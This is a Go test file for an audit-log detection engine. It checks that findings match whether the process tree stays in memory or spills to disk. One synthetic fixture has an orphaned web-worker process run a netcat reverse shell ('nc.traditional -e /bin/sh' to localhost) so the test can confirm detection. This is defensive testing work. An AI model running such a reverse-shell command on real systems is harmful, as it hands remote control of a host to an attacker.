package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
	"github.com/google/go-cmp/cmp"
)

// Detection over a tree that spills finds what it finds over one kept in
// memory. No timeline runs here, so the pins are the engine's own: its
// findings and its state (channels, adopted orphans, web servers).
func TestDetectSpilledSame(t *testing.T) {
	for _, dir := range labCaptures(t) {
		t.Run(dir, func(t *testing.T) {
			want := detectStream(t, dir, 0)
			for _, limit := range []int{4, 64} {
				if got := detectStream(t, dir, limit); got != want {
					t.Fatalf("limit %d: findings differ (-memory +spilled):\n%s", limit, cmp.Diff(want, got))
				}
			}
		})
	}
}

// detectStream runs the engine as scan does, while the tree is built, and
// prints every finding with the processes it names.
func detectStream(t *testing.T, dir string, limit int) string {
	t.Helper()
	e, err := New(Options{})
	if err != nil {
		t.Fatal(err)
	}
	ins, _ := parser.Resolve([]string{auditLog(dir)}, nil)
	r := parser.NewReader(ins, parser.Options{SpillLimit: limit, SpillDir: t.TempDir()})
	defer r.Close()
	var fs []*Finding
	if err := r.All(func(ev *parser.Event) { fs = append(fs, e.Observe(ev, r.Tree())...) }); err != nil {
		t.Fatal(err)
	}
	if limit > 0 && r.Stats().Spill.Faults == 0 {
		t.Errorf("limit %d: nothing was read back; the test does not exercise the spill", limit)
	}
	key := func(p *parser.Process) string {
		if p == nil {
			return "-"
		}
		return fmt.Sprintf("%s/%d@%d:%s", p.Key.Host, p.Key.PID, p.Key.Start.UnixNano(), p.CommandLine())
	}
	var b strings.Builder
	for _, f := range fs {
		fmt.Fprintf(&b, "%s %s %v %s %s proc=%s", f.RuleID, f.Time.Format("15:04:05.000"), f.Severity, f.Stage, f.Reason, key(f.Process))
		for _, a := range f.Ancestors {
			fmt.Fprintf(&b, " < %s", key(a))
		}
		for _, x := range f.Related {
			fmt.Fprintf(&b, " related=%d:%s", x.Serial, key(x.Proc))
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// The engine's state pins what it keeps: an orphan adopted for a web
// server that goes quiet, is moved out, and later runs a reverse shell
// is still the process the state knows, so the shell is still web context.
func TestDetectSpilledAdoptedOrphan(t *testing.T) {
	run := func(limit int) string {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		if limit > 0 {
			s.tree.SpillTo(t.TempDir(), limit)
		}
		var fs []*Finding
		obs := func(ev *parser.Event) { fs = append(fs, e.Observe(ev, s.tree)...) }
		obs(s.next(&parser.Event{Kind: parser.KindSyscall, Syscall: "accept4", Success: true, PID: 400, PPID: 399,
			UID: parser.NewID(2004), User: "webapp", Exe: "/usr/bin/python3.11", Comm: "gunicorn: worke"}))
		obs(s.exec(403, 400, 2004, "webapp", "/srv/webapp", "/usr/bin/dash", "/bin/sh", "-c", "nohup sleep 30 &"))
		obs(s.exec(404, 1, 2004, "webapp", "/srv/webapp", "/usr/bin/sleep", "sleep", "30"))
		for i := range 64 { // a busy host: the orphan is the quietest
			s.t = s.t.Add(time.Second)
			obs(s.exec(5000+i, 2, 0, "root", "/", "/usr/bin/true", "true"))
		}
		obs(s.exec(406, 404, 2004, "webapp", "/srv/webapp", "/usr/bin/nc.traditional", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "4446"))
		if limit > 0 && s.tree.SpillStats().Spilled == 0 {
			t.Fatal("nothing spilled")
		}
		var out []string
		for _, f := range fs {
			out = append(out, fmt.Sprintf("%s pid=%d", f.RuleID, f.Process.Key.PID))
		}
		return strings.Join(out, "\n")
	}
	want := run(0)
	if !strings.Contains(want, "pid=406") {
		t.Fatalf("the adopted orphan's shell is not web context even in memory:\n%s", want)
	}
	if got := run(4); got != want {
		t.Errorf("findings differ (-memory +spilled):\n%s", cmp.Diff(want, got))
	}
}
